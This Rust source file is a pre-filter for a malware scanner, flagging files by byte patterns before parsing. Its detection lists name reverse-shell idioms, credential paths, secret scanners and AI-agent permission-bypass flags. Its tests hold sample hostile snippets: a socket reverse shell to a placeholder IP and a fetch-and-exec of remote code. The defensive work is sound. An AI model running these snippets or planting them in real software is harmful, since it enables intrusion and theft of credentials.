//! The cheap pre-filter: one Aho–Corasick pass over a file's bytes decides
//! whether the file is worth a grammar at all. Most files of a real
//! environment never reach a parser.
//!
//! Its patterns are a superset of what the grammars turn into signals, so a
//! file it rejects cannot hold a signal. For minified bundles (never parsed)
//! the hits themselves become coarse, whole-file signals.

use super::signals::{self, Kind, Signal};
use aho_corasick::{AhoCorasick, MatchKind};
use std::sync::OnceLock;

/// How a pattern counts toward the decision to parse.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Class {
    /// What code could be after: credential paths, persistence locations,
    /// webhooks, publish commands, AI-agent flags … Parsed only when the
    /// file also does one of the acts in the mask (`READ | NET` …).
    Target(u8),
    /// A dotted name (`.env`, `.ssh`) that is a credential target only as a
    /// whole path part.
    BareDot,
    /// Reads (`READ`), writes (`WRITE`), runs a program (`RUN`), connects (`NET`).
    Act(u8),
    /// A bare `exec(`/`eval(`/`Function(` (not a method such as `re.exec(`).
    Exec,
    Decode,
    /// A call with effects that, on an unindented line, runs at import.
    EffectCall,
    /// Obfuscation markers strong enough alone beside an exec.
    Builtins,
    /// Only meaningful with other hits.
    Weak,
}

struct Pattern {
    text: &'static str,
    class: Class,
    /// The coarse signal a hit means in a bundle that is not parsed.
    signal: Option<(Kind, &'static str)>,
}

const READ: u8 = 1;
const WRITE: u8 = 2;
const RUN: u8 = 4;
const NET: u8 = 8;
/// What each kind of target needs beside it to be worth a parse.
const NEED_CRED: u8 = READ | RUN | NET;
const NEED_WRITE: u8 = WRITE | RUN;
const NEED_SEND: u8 = NET | RUN;

type CodePattern = (&'static str, Class, Option<(Kind, &'static str)>);

/// Code patterns: callee names and idioms both grammars classify.
const CODE: &[CodePattern] = &[
    ("exec(", Class::Exec, Some((Kind::Exec, "exec"))),
    ("eval(", Class::Exec, Some((Kind::Exec, "eval"))),
    ("Function(", Class::Exec, Some((Kind::Exec, "Function"))),
    ("runInThisContext", Class::Exec, Some((Kind::Exec, "vm"))),
    ("runInNewContext", Class::Exec, Some((Kind::Exec, "vm"))),
    ("b64decode", Class::Decode, Some((Kind::Decode, "base64"))),
    ("decodebytes", Class::Decode, Some((Kind::Decode, "base64"))),
    ("fromhex", Class::Decode, Some((Kind::Decode, "hex"))),
    ("unhexlify", Class::Decode, Some((Kind::Decode, "hex"))),
    ("decompress", Class::Decode, Some((Kind::Decode, "zlib"))),
    ("marshal", Class::Decode, Some((Kind::Decode, "marshal"))),
    ("rot13", Class::Decode, Some((Kind::Decode, "rot13"))),
    ("rot_13", Class::Decode, Some((Kind::Decode, "rot13"))),
    (
        "fromCharCode",
        Class::Decode,
        Some((Kind::Decode, "char codes")),
    ),
    ("atob(", Class::Decode, Some((Kind::Decode, "base64"))),
    ("'base64'", Class::Decode, Some((Kind::Decode, "base64"))),
    ("\"base64\"", Class::Decode, Some((Kind::Decode, "base64"))),
    ("'hex')", Class::Decode, Some((Kind::Decode, "hex"))),
    ("\"hex\")", Class::Decode, Some((Kind::Decode, "hex"))),
    ("chr(", Class::Decode, None),
    (
        "__builtins__",
        Class::Builtins,
        Some((Kind::DynamicBuiltin, "__builtins__")),
    ),
    ("_0x0", Class::Weak, None),
    ("_0x1", Class::Weak, None),
    ("_0x2", Class::Weak, None),
    ("_0x3", Class::Weak, None),
    ("_0x4", Class::Weak, None),
    ("_0x5", Class::Weak, None),
    ("_0x6", Class::Weak, None),
    ("_0x7", Class::Weak, None),
    ("_0x8", Class::Weak, None),
    ("_0x9", Class::Weak, None),
    ("_0xa", Class::Weak, None),
    ("_0xb", Class::Weak, None),
    ("_0xc", Class::Weak, None),
    ("_0xd", Class::Weak, None),
    ("_0xe", Class::Weak, None),
    ("_0xf", Class::Weak, None),
    (
        "subprocess",
        Class::Act(RUN),
        Some((Kind::Subprocess, "subprocess")),
    ),
    (
        "os.system",
        Class::Act(RUN),
        Some((Kind::Subprocess, "os.system")),
    ),
    ("popen", Class::Act(RUN), Some((Kind::Subprocess, "popen"))),
    (
        "child_process",
        Class::Act(RUN),
        Some((Kind::Subprocess, "child_process")),
    ),
    (
        "execSync",
        Class::Act(RUN),
        Some((Kind::Subprocess, "child_process")),
    ),
    ("spawn", Class::Act(RUN), None),
    ("urlopen", Class::Act(NET), Some((Kind::Network, "urllib"))),
    ("requests.", Class::Act(NET), None),
    ("httpx.", Class::Act(NET), None),
    ("http.client", Class::Act(NET), None),
    ("socket", Class::Act(NET), None),
    ("fetch(", Class::Act(NET), None),
    ("https.", Class::Act(NET), None),
    ("http.request", Class::Act(NET), None),
    ("XMLHttpRequest", Class::Act(NET), None),
    ("dns.", Class::Act(NET), None),
    ("gethostbyname", Class::Act(NET), None),
    ("chmod", Class::Act(WRITE), Some((Kind::Chmod, "chmod"))),
    ("open(", Class::Act(READ | WRITE), None),
    ("read_text", Class::Act(READ), None),
    ("write_text", Class::Act(WRITE), None),
    ("readFile", Class::Act(READ), None),
    ("writeFile", Class::Act(WRITE), None),
    ("appendFile", Class::Act(WRITE), None),
    ("createWriteStream", Class::Act(WRITE), None),
    ("copyFile", Class::Act(WRITE), None),
    (
        "urlretrieve",
        Class::Act(NET | WRITE),
        Some((Kind::Download, "urlretrieve")),
    ),
    ("curl ", Class::Weak, Some((Kind::Download, "curl/wget"))),
    ("wget ", Class::Weak, Some((Kind::Download, "curl/wget"))),
    // Raw-socket shells: a tuple address, descriptors duplicated onto a socket.
    ("connect((", Class::Target(RUN), None),
    ("dup2(", Class::Target(NET | RUN), None),
    (
        "pty.spawn",
        Class::Target(NET),
        Some((Kind::Subprocess, "pty.spawn")),
    ),
    (
        "os.environ)",
        Class::Target(NET),
        Some((Kind::EnvDump, "environment")),
    ),
    (
        "(process.env)",
        Class::Target(NET),
        Some((Kind::EnvDump, "environment")),
    ),
    ("://1", Class::Weak, None),
    ("://2", Class::Weak, None),
    ("://3", Class::Weak, None),
    ("://4", Class::Weak, None),
    ("://5", Class::Weak, None),
    ("://6", Class::Weak, None),
    ("://7", Class::Weak, None),
    ("://8", Class::Weak, None),
    ("://9", Class::Weak, None),
    // Effectful calls, for import-time effects on unindented lines.
    ("subprocess.run(", Class::EffectCall, None),
    ("subprocess.call(", Class::EffectCall, None),
    ("subprocess.Popen(", Class::EffectCall, None),
    ("subprocess.check_output(", Class::EffectCall, None),
    ("subprocess.check_call(", Class::EffectCall, None),
    ("os.system(", Class::EffectCall, None),
    ("os.popen(", Class::EffectCall, None),
    ("urlopen(", Class::EffectCall, None),
    ("requests.get(", Class::EffectCall, None),
    ("requests.post(", Class::EffectCall, None),
    ("socket.socket(", Class::EffectCall, None),
    ("socket.create_connection(", Class::EffectCall, None),
    ("urlretrieve(", Class::EffectCall, None),
    ("execSync(", Class::EffectCall, None),
    ("spawnSync(", Class::EffectCall, None),
    ("https.get(", Class::EffectCall, None),
    ("https.request(", Class::EffectCall, None),
    ("http.get(", Class::EffectCall, None),
    ("net.connect(", Class::EffectCall, None),
];

fn patterns() -> Vec<Pattern> {
    let mut v: Vec<Pattern> = CODE
        .iter()
        .map(|(t, c, s)| Pattern {
            text: t,
            class: *c,
            signal: *s,
        })
        .collect();
    for (t, d) in signals::CREDENTIALS {
        let bare = t.starts_with('.') && !t.contains('/');
        // `.env` alone is configuration loading (python-dotenv): it never
        // makes a credential finding by itself, so it does not buy a parse.
        let class = if signals::SOFT_CREDENTIAL_PATTERNS.contains(t) {
            Class::Weak
        } else if bare {
            Class::BareDot
        } else {
            Class::Target(NEED_CRED)
        };
        v.push(Pattern {
            text: t,
            class,
            signal: Some((Kind::CredentialFile, d)),
        });
    }
    for t in signals::SECRET_VARS {
        v.push(Pattern {
            text: t,
            class: Class::Weak,
            signal: Some((Kind::SecretEnv, "secret variable")),
        });
    }
    for (t, d) in signals::EXFIL_HOSTS {
        v.push(Pattern {
            text: t,
            class: Class::Target(NEED_SEND),
            signal: Some((Kind::ExfilEndpoint, d)),
        });
    }
    for (t, k, d) in signals::PERSISTENCE {
        v.push(Pattern {
            text: t,
            class: Class::Target(NEED_WRITE),
            signal: Some((*k, d)),
        });
    }
    for (t, k, d) in signals::PROPAGATION {
        v.push(Pattern {
            text: t,
            class: Class::Target(NEED_WRITE | NET),
            signal: Some((*k, d)),
        });
    }
    for t in signals::AI_FLAGS {
        v.push(Pattern {
            text: t,
            class: Class::Target(RUN),
            signal: Some((Kind::AiCliBypass, "permission-bypass flag")),
        });
    }
    for (t, d) in signals::RUNTIMES {
        v.push(Pattern {
            text: t,
            class: Class::Target(RUN | NET),
            signal: Some((Kind::SecondRuntime, d)),
        });
    }
    for t in ["trufflehog", "gitleaks"] {
        v.push(Pattern {
            text: t,
            class: Class::Target(RUN),
            signal: Some((Kind::SecretScanner, "secret scanner")),
        });
    }
    v
}

/// Every pattern's text (benchmarks and tests).
pub fn pattern_texts() -> Vec<&'static str> {
    patterns().iter().map(|p| p.text).collect()
}

/// The matcher: an Aho–Corasick DFA (anchored) verifies candidate positions
/// that a 4-byte bloom filter over every pattern's first four bytes lets
/// through. The bloom test is a multiply, a shift and an L1 lookup per byte,
/// several times cheaper than a DFA transition, and rejects >99 % of
/// positions in real code; the DFA then reports every pattern (overlapping)
/// that starts there.
struct Compiled {
    dfa: aho_corasick::dfa::DFA,
    patterns: Vec<Pattern>,
    bloom: Box<[u64; BLOOM_WORDS]>,
    max_len: usize,
}

const BLOOM_BITS: u32 = 16;

const BLOOM_WORDS: usize = 1 << (BLOOM_BITS - 6);

fn bloom_key(w: [u8; 4]) -> usize {
    (u32::from_le_bytes(w).wrapping_mul(0x9E37_79B1) >> (32 - BLOOM_BITS)) as usize
}

fn compiled() -> &'static Compiled {
    static C: OnceLock<Compiled> = OnceLock::new();
    C.get_or_init(|| {
        let patterns = patterns();
        let dfa = aho_corasick::dfa::Builder::new()
            .match_kind(MatchKind::Standard)
            .start_kind(aho_corasick::StartKind::Anchored)
            .build(patterns.iter().map(|p| p.text))
            // The patterns are constants; a failure here is a programming error
            // caught by every test, never input-dependent.
            .unwrap_or_else(|e| panic!("behaviour pre-filter patterns: {e}"));
        let mut bloom = Box::new([0u64; BLOOM_WORDS]);
        for p in &patterns {
            if let Some(w) = p.text.as_bytes().first_chunk::<4>() {
                let k = bloom_key(*w);
                bloom[(k >> 6) & (BLOOM_WORDS - 1)] |= 1 << (k & 63);
            }
        }
        let max_len = patterns.iter().map(|p| p.text.len()).max().unwrap_or(0);
        Compiled {
            dfa,
            patterns,
            bloom,
            max_len,
        }
    })
}

/// Every (pattern, start, end) in `bytes`, ordered by start.
fn find_all(c: &Compiled, bytes: &[u8], out: &mut Vec<(usize, usize, usize)>) {
    use aho_corasick::Anchored;
    use aho_corasick::automaton::Automaton;
    let Ok(start_sid) = c.dfa.start_state(Anchored::Yes) else {
        return;
    };
    for (i, w) in bytes.windows(4).enumerate() {
        let Some(w) = w.first_chunk::<4>() else {
            continue;
        };
        let k = bloom_key(*w);
        // `k` has BLOOM_BITS bits: the masked index is always in the table.
        if c.bloom[(k >> 6) & (BLOOM_WORDS - 1)] >> (k & 63) & 1 == 0 {
            continue;
        }
        let mut sid = start_sid;
        let tail = bytes
            .get(i..(i + c.max_len).min(bytes.len()))
            .unwrap_or(&[]);
        for (j, &b) in tail.iter().enumerate() {
            sid = c.dfa.next_state(Anchored::Yes, sid, b);
            if c.dfa.is_special(sid) {
                if c.dfa.is_dead(sid) {
                    break;
                }
                if c.dfa.is_match(sid) {
                    for m in 0..c.dfa.match_len(sid) {
                        out.push((c.dfa.match_pattern(sid, m).as_usize(), i, i + j + 1));
                    }
                }
            }
        }
    }
}

/// What the byte scan saw in one file.
#[derive(Clone, Debug, Default)]
pub struct Hits {
    /// Acts the named targets need (union of their masks).
    pub target: u8,
    /// Acts the file does (mask of `READ`, `WRITE`, `RUN`, `NET`).
    pub act: u8,
    /// A bare exec/eval within reach of a decode (the obfuscation idiom).
    pub exec_near_decode: bool,
    /// A bare exec/eval within reach of a network call (fetch and run).
    pub exec_near_net: bool,
    pub exec: bool,
    pub decode: bool,
    pub builtins: bool,
    /// An effectful call on an unindented line: possible import-time effect.
    pub top_level: bool,
    /// Obfuscator-style `_0x` identifiers seen.
    pub hex_idents: usize,
    /// `curl`/`wget` named.
    pub fetch_tool: bool,
    /// Coarse signals (pattern hits), for files that are not parsed.
    pub coarse: Vec<Signal>,
    /// The target patterns seen (for tuning and tests).
    pub strong_by: Vec<&'static str>,
}

impl Hits {
    /// Whether the file deserves a grammar.
    pub fn worth_parsing(&self) -> bool {
        (self.target & self.act) != 0
            || self.exec_near_decode
            || self.exec_near_net
            || (self.builtins && self.exec)
            || self.hex_idents >= 8
            || self.top_level
            || (self.fetch_tool && self.act & RUN != 0)
    }

    pub fn any(&self) -> bool {
        self.target != 0
            || self.exec
            || self.decode
            || self.act != 0
            || self.hex_idents > 0
            || self.fetch_tool
    }
}

/// Most coarse signals kept per file (a bundle can hit thousands of times).
const MAX_COARSE: usize = 200;
/// How far apart an exec and a decode may be to count as one idiom.
const NEAR: usize = 2048;

/// Scans `bytes` once.
pub fn scan(bytes: &[u8]) -> Hits {
    scan_with(bytes, true)
}

/// Scans `bytes` once; `coarse` asks for the hits as signals (only files
/// that will not be parsed need them).
pub fn scan_with(bytes: &[u8], coarse: bool) -> Hits {
    let c = compiled();
    let mut h = Hits::default();
    let mut line = 1u32;
    let mut last = 0usize;
    let (mut last_exec, mut last_decode): (Option<usize>, Option<usize>) = (None, None);
    let mut last_net: Option<usize> = None;
    let mut found = Vec::new();
    find_all(c, bytes, &mut found);
    for (pid, start, end) in found {
        let Some(p) = c.patterns.get(pid) else {
            continue;
        };
        match p.class {
            Class::Target(_) | Class::BareDot => {
                if p.class == Class::BareDot && !bare_boundary(bytes, start, end) {
                    continue;
                }
                h.target |= match p.class {
                    Class::Target(need) => need,
                    _ => NEED_CRED,
                };
                if h.strong_by.len() < 4 {
                    h.strong_by.push(p.text);
                }
            }
            Class::Exec => {
                if !bare_call(bytes, start) {
                    continue;
                }
                h.exec = true;
                h.exec_near_decode |= last_decode.is_some_and(|d| start - d < NEAR);
                h.exec_near_net |= last_net.is_some_and(|d| start - d < NEAR);
                last_exec = Some(start);
                if unindented_call(bytes, start) {
                    h.top_level = true;
                }
            }
            Class::Decode => {
                h.decode = true;
                h.exec_near_decode |= last_exec.is_some_and(|e| start - e < NEAR);
                last_decode = Some(start);
            }
            Class::Act(a) => {
                h.act |= a;
                if a & NET != 0 {
                    h.exec_near_net |= last_exec.is_some_and(|e| start - e < NEAR);
                    last_net = Some(start);
                }
            }
            Class::EffectCall => {
                h.act |= RUN | NET;
                if unindented_call(bytes, start) {
                    h.top_level = true;
                }
            }
            Class::Builtins => h.builtins = true,
            Class::Weak => {
                if p.text.starts_with('.') && !bare_boundary(bytes, start, end) {
                    continue;
                }
                if p.text.starts_with("_0x") {
                    h.hex_idents += 1;
                } else if p.text == "curl " || p.text == "wget " {
                    h.fetch_tool = true;
                }
            }
        }
        if let Some((kind, detail)) = p.signal
            && coarse
            && h.coarse.len() < MAX_COARSE
        {
            line +=
                memchr::memchr_iter(b'\n', bytes.get(last..start).unwrap_or(&[])).count() as u32;
            last = start;
            h.coarse.push(Signal {
                kind,
                detail,
                line,
                evidence: String::new(),
                scope: 0,
                top_level: false,
            });
        }
    }
    h
}

/// `exec(` as a call of the builtin, not `re.exec(` or `isFunction(`.
fn bare_call(bytes: &[u8], start: usize) -> bool {
    let before = start.checked_sub(1).and_then(|i| bytes.get(i)).copied();
    before.is_none_or(|c| !(c.is_ascii_alphanumeric() || c == b'_' || c == b'.' || c == b'$'))
        || (before == Some(b' ') && bytes.get(..start).is_some_and(|b| b.ends_with(b"new ")))
}

/// Markers of worms and stealers that a vendored bundle never needs: one
/// fast search (few patterns, so the searcher skips with SIMD) decides
/// whether a bundle gets the full pass.
pub fn bundle_markers(bytes: &[u8]) -> bool {
    static M: OnceLock<AhoCorasick> = OnceLock::new();
    let m = M.get_or_init(|| {
        AhoCorasick::builder()
            .match_kind(MatchKind::LeftmostFirst)
            .build([
                "trufflehog",
                "gitleaks",
                "dangerously-skip-permissions",
                "trust-all-tools",
                "npm publish",
                "/webhooks/",
                "_0x",
                "bun.sh",
            ])
            .unwrap_or_else(|e| panic!("bundle markers: {e}"))
    });
    m.is_match(bytes)
}

/// `.env` counts in `"/app/.env"` or `'.env'`, not in `process.env` or `.environ`.
fn bare_boundary(bytes: &[u8], start: usize, end: usize) -> bool {
    let before = start.checked_sub(1).and_then(|i| bytes.get(i)).copied();
    let after = bytes.get(end).copied();
    let before_ok = matches!(
        before,
        None | Some(b'/' | b'\\' | b'~' | b'"' | b'\'' | b'`' | b' ')
    );
    let after_ok = after.is_none_or(|c| !c.is_ascii_alphanumeric() && c != b'_' && c != b'-');
    before_ok && after_ok
}

/// Whether the hit at `pos` sits on a line that starts at column 0 with
/// code (not an import, definition or comment): module-level code.
fn unindented_call(bytes: &[u8], pos: usize) -> bool {
    let head = bytes.get(..pos).unwrap_or(&[]);
    let start = memchr::memrchr(b'\n', head).map_or(0, |i| i + 1);
    let line = bytes.get(start..).unwrap_or(&[]);
    // A minified line is everything at once: no evidence of module level.
    let eol = memchr::memchr(b'\n', line).unwrap_or(line.len());
    if eol > 1000 {
        return false;
    }
    let line = &line[..line.len().min(200)];
    let Some(&first) = line.first() else {
        return false;
    };
    if first.is_ascii_whitespace() || first == b'#' || first == b'/' || first == b'*' {
        return false;
    }
    const DECLS: &[&[u8]] = &[
        b"import ",
        b"from ",
        b"def ",
        b"class ",
        b"async def",
        b"export ",
        b"@",
        b"\"",
        b"'",
    ];
    !DECLS.iter().any(|d| line.starts_with(d)) && !is_require_line(line)
}

/// `const x = require('child_process')`: an import, not a call with effects.
fn is_require_line(line: &[u8]) -> bool {
    let eol = memchr::memchr(b'\n', line).unwrap_or(line.len());
    let l = &line[..eol];
    memchr::memmem::find(l, b"require(").is_some()
        && memchr::memmem::find(l, b").").is_none()
        && (l.starts_with(b"const ") || l.starts_with(b"var ") || l.starts_with(b"let "))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_library_code_is_not_parsed() {
        let src = b"import os\n\ndef f():\n    return os.environ.get('HOME')\n";
        assert!(!scan(src).worth_parsing());
        let js = b"const env = process.env.NODE_ENV;\nmodule.exports = env;\n";
        assert!(!scan(js).worth_parsing());
    }

    #[test]
    fn strong_hits_and_combinations_are_parsed() {
        assert!(scan(b"p = open('~/.aws/credentials')\n").worth_parsing());
        assert!(scan(b"x = open('/home/u/.ssh/id_rsa')\n").worth_parsing());
        // `.env` alone is configuration loading: no parse for it.
        assert!(!scan(b"x = open('.env')\n").worth_parsing());
        // A path named without any act (docs, constants) is not enough.
        assert!(!scan(b"p = '~/.aws/credentials'\n").worth_parsing());
        // Far apart, an exec and a decode are not one idiom.
        let mut far = b"def f():\n    exec(code)\n".to_vec();
        far.extend(vec![b'#'; 4000]);
        far.extend(b"\nx = base64.b64decode(s)\n");
        assert!(!scan(&far).worth_parsing());
        assert!(!scan(b"PATTERN = re.compile(r'x')\nm = /a/.exec(s)\n").worth_parsing());
        assert!(scan(b"exec(base64.b64decode(s))\n").worth_parsing());
        assert!(scan(b"subprocess.run(['ls'])\n").worth_parsing());
        // Indented: inside a function, not an import-time effect.
        assert!(!scan(b"def f():\n    subprocess.run(['ls'])\n").worth_parsing());
        assert!(!scan(b"import subprocess\n").worth_parsing());
    }

    #[test]
    fn shells_and_fetch_and_run_inside_functions_are_parsed() {
        let shell = b"def f():\n    s = socket.socket()\n    s.connect(('198.51.100.7', 4444))\n    subprocess.call(['/bin/sh', '-i'])\n";
        assert!(scan(shell).worth_parsing());
        let fetch_run =
            b"def f():\n    code = urlopen('https://x.invalid/p').read()\n    exec(code)\n";
        assert!(scan(fetch_run).worth_parsing());
    }

    #[test]
    fn every_pattern_is_found_where_it_starts() {
        // The bloom filter keys on four bytes: every pattern must have them.
        for t in pattern_texts() {
            assert!(t.len() >= 4, "{t:?} is shorter than the bloom key");
            let text = format!("xx {t} yy");
            let mut found = Vec::new();
            find_all(compiled(), text.as_bytes(), &mut found);
            assert!(
                found.iter().any(|&(_, s, e)| s == 3 && e == 3 + t.len()),
                "{t:?}"
            );
        }
    }

    #[test]
    fn coarse_signals_have_lines() {
        let h = scan(b"a\nb\nrun('trufflehog filesystem /')\n");
        let s = h
            .coarse
            .iter()
            .find(|s| s.kind == Kind::SecretScanner)
            .unwrap();
        assert_eq!(s.line, 3);
    }
}
